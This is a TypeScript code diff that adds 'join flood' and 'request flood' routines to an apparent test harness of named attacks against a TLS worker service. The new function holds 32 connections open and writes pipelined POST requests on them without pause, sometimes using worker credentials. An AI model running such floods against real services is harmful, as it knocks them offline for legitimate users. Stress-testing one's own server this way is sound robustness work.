@@ -55,6 +55,24 @@ function post(data: AttackData, headers: string): TLSSocket {
   return socket;
 }
 
+/** Sends the same request again and again, without waiting for answers, on as many connections. */
+function requests(data: AttackData, request: { path: string; body: string; asWorker: boolean }): void {
+  const { path, body, asWorker } = request;
+  const { cert, key, ca } = data.credentials;
+  const length = Buffer.byteLength(body);
+  const text = `POST ${path} HTTP/1.1\r\nhost: x\r\ncontent-length: ${length}\r\n\r\n${body}`.repeat(20);
+  keep(32, () => {
+    const socket = connectTls({ ...target(data), ...(asWorker && { cert, key, ca }) }, () => {
+      const more = () => {
+        if (!socket.destroyed) socket.write(text, () => setImmediate(more));
+      };
+      more();
+    });
+    socket.resume();
+    return socket;
+  });
+}
+
 /** A session of the worker, opened again whenever it ends; `act` is called when it stands. */
 function sessions(
   data: AttackData,
@@ -130,6 +148,11 @@ const attacks = {
   'hello flood of two hosts': (data: AttackData) => {
     for (const host of ['one', 'two']) sessions(data, 2, (socket) => flood(socket, hello(data, host)));
   },
+  'join flood': (data: AttackData) => {
+    const body = JSON.stringify({ token: 'x'.repeat(100), certificateRequestPem: 'y', hostname: 'h' });
+    requests(data, { path: '/join', body, asWorker: false });
+  },
+  'request flood': (data: AttackData) => requests(data, { path: '/leave', body: '{}', asWorker: true }),
   'stream flood': (data: AttackData) => sessions(data, 32, () => undefined, `${streamPath}/nobody-asked`),
 };
 
